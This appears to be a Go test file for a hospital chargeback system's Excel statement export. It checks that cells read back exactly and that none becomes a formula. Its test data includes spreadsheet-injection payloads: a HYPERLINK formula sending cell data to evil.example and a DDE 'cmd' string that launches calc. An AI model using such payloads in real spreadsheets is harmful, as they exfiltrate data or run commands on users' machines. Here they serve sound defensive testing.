@@ -1,0 +1,273 @@
+package xlsx
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/shopspring/decimal"
+	"github.com/xuri/excelize/v2"
+
+	"chargeback/internal/billing"
+	"chargeback/internal/workbook"
+)
+
+// hostile are descriptions a department or finance could type that a
+// spreadsheet would run, mangle or cut short.
+var hostile = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	"+cmd|' /C calc'!A0",
+	"-2+3",
+	"@SUM(1+1)*cmd",
+	"\tleading tab",
+	`"quoted" and 'single' and a, comma`,
+	"line one\nline two",
+	"emoji 🏥💊 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 outside the BMP",
+	"_x0041_ looks like an escaped A",
+	"  spaces kept  ",
+	strings.Repeat("a very long description, ", 19) + "end",
+}
+
+// realisticMonth is a closed month of three departments: charges,
+// recurring lines, an SLA credit and adjustments with hostile text.
+func realisticMonth(t *testing.T) workbook.Month {
+	t.Helper()
+	m, err := billing.ParseMonth("2026-03")
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := decimal.RequireFromString
+	charge := func(id, svc, name, unit, qty, price, amount string) billing.Line {
+		return billing.Line{ID: id, Kind: billing.KindCharge, RequestID: strings.SplitN(id, "-", 2)[0], ServiceID: svc, ServiceName: name,
+			Description: name + ": " + qty + " " + unit, Quantity: d(qty), Unit: unit, UnitPrice: d(price), Amount: d(amount)}
+	}
+	recurring := func(id, svc, name, unit, qty, price string, days int, amount string) billing.Line {
+		l := charge(id, svc, name, unit, qty, price, amount)
+		l.Kind, l.Days = billing.KindRecurring, days
+		return l
+	}
+	adjust := func(id, desc, amount string) billing.Line {
+		return billing.Line{ID: id, Kind: billing.KindAdjustment, Description: desc, Amount: d(amount)}
+	}
+	radiology := []billing.Line{
+		charge("R1-charge", "workstation-setup", "Clinical workstation setup", "device", "3", "450.00", "1350.00"),
+		recurring("R2-recurring-2026-03", "pacs-seat", "PACS viewer seat", "user", "12", "85.00", 31, "1020.00"),
+		recurring("R3-recurring-2026-03", "ehr-account", "EHR account", "user", "2.5", "42.10", 17, "57.72"),
+		{ID: "R1-sla-credit", Kind: billing.KindSLACredit, RequestID: "R1", ServiceID: "workstation-setup", ServiceName: "Clinical workstation setup",
+			Description: "SLA credit: fulfilled after 80 h, target 72 h", Amount: d("-135.00")},
+		charge("R4-charge", "analyst-hours", "Analyst hours", "hour", "7.25", "110.00", "797.50"),
+	}
+	for i, h := range hostile {
+		amount := "-0.01"
+		if i%2 == 0 {
+			amount = "1234567.89"
+		}
+		radiology = append(radiology, adjust("ADJ-"+string(rune('a'+i)), h, amount))
+	}
+	pharmacy := []billing.Line{
+		charge("R5-charge", "label-printer", "Label printer", "device", "1", "0.10", "0.10"),
+		adjust("ADJ-z", "Correction for 2026-02, line R9-charge", "-0.30"),
+	}
+	emergency := []billing.Line{recurring("R6-recurring-2026-03", "pager", "Pager", "device", "40", "9.99", 31, "399.60")}
+	closedAt := time.Date(2026, 4, 3, 9, 15, 0, 0, time.UTC)
+	var statements []billing.Statement
+	var sums []billing.Summary
+	total := decimal.Zero
+	for _, s := range []struct{ id, name, cc string; lines []billing.Line }{
+		{"radiology", "Radiology & Imaging", "CC-4100", radiology},
+		{"pharmacy", "=Pharmacy", "CC-4200", pharmacy},
+		{"emergency", "Emergency Department", "CC-4300", emergency},
+	} {
+		for i := range s.lines {
+			s.lines[i].Month, s.lines[i].Department = m, s.id
+		}
+		st := billing.NewStatement(m, s.id, s.name, s.cc, s.lines).Freeze(closedAt)
+		statements = append(statements, st)
+		sums = append(sums, st.Summary())
+		total = total.Add(st.Total)
+	}
+	p := billing.Period{Month: m, Status: billing.PeriodClosed, ClosedAt: closedAt, ClosedBy: "finance@example.org", Total: total, Statements: sums}
+	return workbook.Month{Period: p, Statements: statements, Currency: "USD", At: closedAt}
+}
+
+func TestBuildReadsBackAsTheStatements(t *testing.T) {
+	m := realisticMonth(t)
+	b, err := Build(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	wantSheets := []string{"Summary", "radiology", "pharmacy", "emergency"}
+	if diff := cmp.Diff(wantSheets, f.GetSheetList()); diff != "" {
+		t.Fatalf("sheets (-want +got):\n%s", diff)
+	}
+	t.Run("department sheets hold the CSV", func(t *testing.T) {
+		for _, st := range m.Statements {
+			rows, err := csv.NewReader(bytes.NewReader(st.CSV())).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := sheetRows(t, f, st.Department)
+			if len(got) != len(rows) {
+				t.Fatalf("%s: got %d rows, want %d", st.Department, len(got), len(rows))
+			}
+			for r, want := range rows {
+				for c, w := range want {
+					checkCell(t, f, st.Department, c+1, r+1, w, r > 0 && numericColumn(billing.StatementHeader[c]))
+				}
+			}
+		}
+	})
+	t.Run("summary lists every statement and the month", func(t *testing.T) {
+		want := [][]string{SummaryHeader}
+		for _, st := range m.Statements {
+			want = append(want, []string{st.Department, billing.SafeCell(st.DepartmentName), st.CostCenter, st.Total.StringFixed(2),
+				itoa(len(st.Lines)), "closed", st.Checksum})
+		}
+		lines := 0
+		for _, st := range m.Statements {
+			lines += len(st.Lines)
+		}
+		want = append(want, nil, []string{"total", "", "", m.Period.Total.StringFixed(2), itoa(lines), "closed"},
+			nil, []string{"month", "2026-03"}, []string{"status", "closed"}, []string{"closed_at", "2026-04-03T09:15:00Z"}, []string{"currency", "USD"})
+		for r, row := range want {
+			for c, w := range row {
+				checkCell(t, f, summarySheet, c+1, r+1, w, r > 0 && (c == 3 || c == 4) && w != "")
+			}
+		}
+		if got := len(sheetRows(t, f, summarySheet)); got != len(want) {
+			t.Errorf("summary: got %d rows, want %d", got, len(want))
+		}
+	})
+	t.Run("no cell is a formula", func(t *testing.T) {
+		zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, zf := range zr.File {
+			if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
+				continue
+			}
+			rc, _ := zf.Open()
+			raw, _ := io.ReadAll(rc)
+			rc.Close()
+			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) {
+				t.Errorf("%s holds a formula", zf.Name)
+			}
+		}
+	})
+}
+
+// numericColumn reports whether a CSV column is written as a number.
+func numericColumn(name string) bool {
+	return name == "quantity" || name == "unit_price" || name == "days" || name == "amount"
+}
+
+// checkCell compares a cell with the CSV's text for it: text exactly, and
+// a number by value (the stored value read back as a decimal), with its
+// number format, two decimals for money and quantities.
+func checkCell(t *testing.T, f *excelize.File, sheet string, col, row int, want string, number bool) {
+	t.Helper()
+	ref := cellName(col, row)
+	typ, err := f.GetCellType(sheet, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
+		t.Errorf("%s!%s is the formula %q", sheet, ref, formula)
+	}
+	if !number || want == "" {
+		if raw != want || (want != "" && typ != excelize.CellTypeSharedString) {
+			t.Errorf("%s!%s: got %q (type %v), want the text %q", sheet, ref, raw, typ, want)
+		}
+		return
+	}
+	got, err := decimal.NewFromString(raw)
+	if err != nil || !got.Equal(decimal.RequireFromString(want)) || typ != excelize.CellTypeUnset {
+		t.Errorf("%s!%s: got %q (type %v), want the number %s", sheet, ref, raw, typ, want)
+	}
+	shown, _ := f.GetCellValue(sheet, ref)
+	if d := decimal.RequireFromString(want); !strings.Contains(want, ".") && !d.IsInteger() || strings.Contains(want, ".") {
+		if wantShown := commas(d.StringFixed(2)); shown != wantShown {
+			t.Errorf("%s!%s shows %q, want %q", sheet, ref, shown, wantShown)
+		}
+	}
+}
+
+// commas groups thousands as the money format does.
+func commas(s string) string {
+	neg := strings.HasPrefix(s, "-")
+	s = strings.TrimPrefix(s, "-")
+	whole, frac, _ := strings.Cut(s, ".")
+	var b strings.Builder
+	for i, r := range whole {
+		if i > 0 && (len(whole)-i)%3 == 0 {
+			b.WriteByte(',')
+		}
+		b.WriteRune(r)
+	}
+	out := b.String() + "." + frac
+	if neg {
+		out = "-" + out
+	}
+	return out
+}
+
+func itoa(n int) string { return decimal.NewFromInt(int64(n)).String() }
+
+// sheetRows reads a sheet's rows as shown.
+func sheetRows(t *testing.T, f *excelize.File, sheet string) [][]string {
+	t.Helper()
+	rows, err := f.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+func TestBuildIsByteStable(t *testing.T) {
+	first, err := Build(realisticMonth(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range 5 {
+		again, err := Build(realisticMonth(t))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.Equal(first, again) {
+			t.Fatalf("build %d differs from the first (%d and %d bytes)", i+2, len(first), len(again))
+		}
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(first))
+	if err != nil {
+		t.Fatal(err)
+	}
+	props, err := f.GetDocProps()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if props.Created != "2026-04-03T09:15:00Z" || props.Modified != "2026-04-03T09:15:00Z" {
+		t.Errorf("created %s, modified %s; want both the close, 2026-04-03T09:15:00Z", props.Created, props.Modified)
+	}
+	if dir := os.Getenv("CHARGEBACK_WORKBOOK_OUT"); dir != "" {
+		if err := os.WriteFile(filepath.Join(dir, "statements-2026-03.xlsx"), first, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
